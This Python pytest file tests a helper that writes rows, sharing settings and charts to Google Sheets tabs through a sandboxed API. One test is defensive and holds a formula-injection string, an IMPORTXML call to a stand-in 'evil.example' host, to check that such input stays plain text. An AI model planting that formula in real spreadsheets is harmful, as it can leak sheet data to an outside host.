import threading
from collections.abc import Callable
from dataclasses import replace
from decimal import Decimal
from typing import Any

import gspread
import pytest
from googleapiclient.errors import HttpError
from gspread.exceptions import APIError

from include.google.charts import Chart
from include.google.client import Google
from include.google.sheets import Cell, replace_tab
from tests.sandbox_process import Sandbox

ROWS: list[list[Cell]] = [
    ["Item", "Sold", "Net"],
    ["Margherita", 12, Decimal("150.25")],
    ["Calabrese", 3, Decimal("40.00")],
]


def spreadsheets(google: Google) -> list[dict[str, Any]]:
    found = google.drive.files().list(fields="files(id,name,permissions(emailAddress,role))").execute()
    return list(found["files"])


def titles(google: Google, file_id: str) -> list[str]:
    return [sheet["properties"]["title"] for sheet in google.sheets.fetch_sheet_metadata(file_id)["sheets"]]


def shown(google: Google, tab: str) -> list[list[str]]:
    (file,) = spreadsheets(google)
    values: list[list[str]] = google.sheets.values_get(file["id"], f"'{tab}'").get("values", [])
    return values


def test_it_makes_spreadsheet_and_tab_and_leaves_no_empty_first_tab(google: Google) -> None:
    url = replace_tab(google, "Sales", "2026-11-20", ROWS, share_with=[], currency_columns={2: "USD"})

    (file,) = spreadsheets(google)
    assert file["name"] == "Sales"
    assert file["id"] in url
    assert "#gid=" in url
    assert titles(google, file["id"]) == ["2026-11-20"]
    assert shown(google, "2026-11-20") == [
        ["Item", "Sold", "Net"],
        ["Margherita", "12", "$150.25"],
        ["Calabrese", "3", "$40.00"],
    ]


def test_a_second_run_replaces_the_tab_and_keeps_its_address(google: Google) -> None:
    first = replace_tab(google, "Sales", "today", ROWS, share_with=[])
    again = replace_tab(google, "Sales", "today", [["Item"], ["Soup"]], share_with=[])

    assert again == first
    assert shown(google, "today") == [["Item"], ["Soup"]]


def test_a_new_tab_comes_first_and_leaves_the_others_alone(google: Google) -> None:
    replace_tab(google, "Sales", "2026-11-19", ROWS, share_with=[])
    replace_tab(google, "Sales", "2026-11-20", [["Item"], ["Soup"]], share_with=[])

    (file,) = spreadsheets(google)
    assert titles(google, file["id"]) == ["2026-11-20", "2026-11-19"]
    assert len(shown(google, "2026-11-19")) == 3


def test_text_that_looks_like_a_formula_stays_text(google: Google) -> None:
    hostile = '=IMPORTXML("http://evil.example","//a")'
    replace_tab(google, "Sales", "today", [["Item"], [hostile], ["+1"], ["007"]], share_with=[])

    (file,) = spreadsheets(google)
    found = google.sheets.fetch_sheet_metadata(file["id"], {"includeGridData": "true"})
    cells = [row["values"][0]["userEnteredValue"] for row in found["sheets"][0]["data"][0]["rowData"]]
    assert cells[1:] == [{"stringValue": hostile}, {"stringValue": "+1"}, {"stringValue": "007"}]


def test_the_header_is_bold_and_frozen(google: Google) -> None:
    replace_tab(google, "Sales", "today", ROWS, share_with=[])

    (file,) = spreadsheets(google)
    (sheet,) = google.sheets.fetch_sheet_metadata(file["id"], {"includeGridData": "true"})["sheets"]
    assert sheet["properties"]["gridProperties"] == {"rowCount": 3, "columnCount": 3, "frozenRowCount": 1}
    header, first = (sheet["data"][0]["rowData"][number]["values"][0] for number in (0, 1))
    assert header["effectiveFormat"]["textFormat"]["bold"]
    assert "effectiveFormat" not in first


def test_a_tab_may_have_any_name(google: Google) -> None:
    replace_tab(google, 'Joe\'s & "Sons" \\ Co', "Joe's / North!A1", ROWS, share_with=[])
    replace_tab(google, 'Joe\'s & "Sons" \\ Co', "Joe's / North!A1", ROWS, share_with=[])

    (file,) = spreadsheets(google)
    assert titles(google, file["id"]) == ["Joe's / North!A1"]


def test_it_shares_once_and_takes_no_role_away(google: Google) -> None:
    people = ["ana@example.com", "Bob@Example.com"]
    replace_tab(google, "Sales", "today", ROWS, share_with=people[:1])
    (file,) = spreadsheets(google)
    permissions = google.drive.permissions()
    body = {"type": "user", "role": "writer", "emailAddress": "ana@example.com"}
    permissions.create(fileId=file["id"], body=body, sendNotificationEmail=False).execute()

    replace_tab(google, "Sales", "today", ROWS, share_with=people)

    (file,) = spreadsheets(google)
    roles = {one["emailAddress"]: one["role"] for one in file["permissions"]}
    assert {**roles, "storekeeper@sandbox.iam.gserviceaccount.com": ""} == {
        "storekeeper@sandbox.iam.gserviceaccount.com": "",
        "ana@example.com": "writer",
        "bob@example.com": "reader",
    }


def test_an_address_without_a_google_account_stops_nothing(google: Google, caplog: pytest.LogCaptureFixture) -> None:
    people = ["dan@no-account.example", "ana@example.com"]
    replace_tab(google, "Sales", "today", ROWS, share_with=people)

    (file,) = spreadsheets(google)
    assert "ana@example.com" in {one["emailAddress"] for one in file["permissions"]}
    assert "1 of 2 recipients have no Google account" in caplog.text
    assert "dan@" not in caplog.text


def test_a_spreadsheet_that_somebody_renamed_is_found_again(google: Google) -> None:
    replace_tab(google, "Sales", "today", ROWS, share_with=[])
    (file,) = spreadsheets(google)
    google.drive.files().update(fileId=file["id"], body={"name": "Sales of all shops"}).execute()

    replace_tab(google, "Sales", "today", ROWS, share_with=[])

    assert [file["name"] for file in spreadsheets(google)] == ["Sales of all shops"]


def test_a_spreadsheet_that_a_person_made_and_shared_is_used_and_keeps_its_tabs(
    connect_google: Callable[..., Google],
) -> None:
    person = connect_google("ana@example.com")
    made = gspread.Client(auth=None, http_client=lambda *_: person.sheets).create("Sales")  # type: ignore[arg-type]
    robot = {"type": "user", "role": "writer", "emailAddress": "storekeeper@sandbox.iam.gserviceaccount.com"}
    person.drive.permissions().create(fileId=made.id, body=robot).execute()
    google = connect_google()

    url = replace_tab(google, "Sales", "today", ROWS, share_with=[])

    assert made.id in url
    assert titles(google, made.id) == ["today", "Sheet1"]


@pytest.mark.parametrize("path", ["/google/drive/v3/files", "/google/v4/spreadsheets"])
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_a_lost_reply_makes_nothing_twice(google: Google, sandbox: Sandbox, method: str, path: str) -> None:
    sandbox.set_fault(lost_reply=True, method=method, path=path, times=1)

    replace_tab(google, "Sales", "today", ROWS, share_with=["ana@example.com"])

    (file,) = spreadsheets(google)
    assert titles(google, file["id"]) == ["today"]
    assert len(shown(google, "today")) == 3


def test_it_waits_as_long_as_google_asks(google: Google, sandbox: Sandbox) -> None:
    sandbox.set_fault(status=429, retry_after=1, path="/google/v4", times=1)

    replace_tab(google, "Sales", "today", ROWS, share_with=[])

    assert len(shown(google, "today")) == 3


def test_what_google_refuses_for_good_is_raised_at_once(google: Google, sandbox: Sandbox) -> None:
    sandbox.set_fault(status=403, path="/google/drive")
    with pytest.raises(HttpError, match="403"):
        replace_tab(google, "Sales", "today", ROWS, share_with=[])

    sandbox.set_fault(status=403, path="/google/v4")
    with pytest.raises(APIError, match="403"):
        replace_tab(google, "Sales", "today", ROWS, share_with=[])


def test_with_an_api_root_nothing_is_asked_of_google(google: Google, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("DEBUG")
    before = set(threading.enumerate())
    replace_tab(google, "Sales", "today", ROWS, share_with=["ana@example.com"])

    for thread in set(threading.enumerate()) - before:
        thread.join(2)
    connections = [text for record in caplog.records if "Starting new HTTP" in (text := record.getMessage())]
    assert connections
    assert all("127.0.0.1" in text for text in connections)


def charts(google: Google, tab: str) -> list[dict[str, Any]]:
    (file,) = spreadsheets(google)
    found = google.sheets.fetch_sheet_metadata(file["id"])["sheets"]
    return next(list(sheet.get("charts", [])) for sheet in found if sheet["properties"]["title"] == tab)


def test_a_chart_stands_beside_the_table_and_reads_its_columns(google: Google) -> None:
    net = Chart("Net sales by item", "COLUMN", series_columns=[2], value_title="USD")
    replace_tab(google, "Sales", "today", ROWS, share_with=[], charts=[net])

    (chart,) = charts(google, "today")
    basic = chart["spec"]["basicChart"]
    (series,) = basic["series"][0]["series"]["sourceRange"]["sources"]
    assert (chart["spec"]["title"], basic["chartType"]) == ("Net sales by item", "COLUMN")
    assert (series["startColumnIndex"], series["endColumnIndex"], series["endRowIndex"]) == (2, 3, 3)
    assert chart["position"]["overlayPosition"]["anchorCell"]["columnIndex"] > 2


def test_a_rerun_changes_the_chart_where_it_stands(google: Google) -> None:
    net = Chart("Net sales by item", "COLUMN", series_columns=[2])
    replace_tab(google, "Sales", "today", ROWS, share_with=[], charts=[net])
    (before,) = charts(google, "today")

    replace_tab(google, "Sales", "today", ROWS[:2], share_with=[], charts=[replace(net, kind="LINE")])

    (after,) = charts(google, "today")
    assert (after["chartId"], after["position"]) == (before["chartId"], before["position"])
    assert after["spec"]["basicChart"]["chartType"] == "LINE"
    assert after["spec"]["basicChart"]["series"][0]["series"]["sourceRange"]["sources"][0]["endRowIndex"] == 2


def test_a_lost_reply_makes_no_second_chart(google: Google, sandbox: Sandbox) -> None:
    sandbox.set_fault(lost_reply=True, method="POST", path="/google/v4/spreadsheets", times=1)
    replace_tab(google, "Sales", "today", ROWS, share_with=[], charts=[Chart("Net", "LINE", series_columns=[2])])
    assert len(charts(google, "today")) == 1
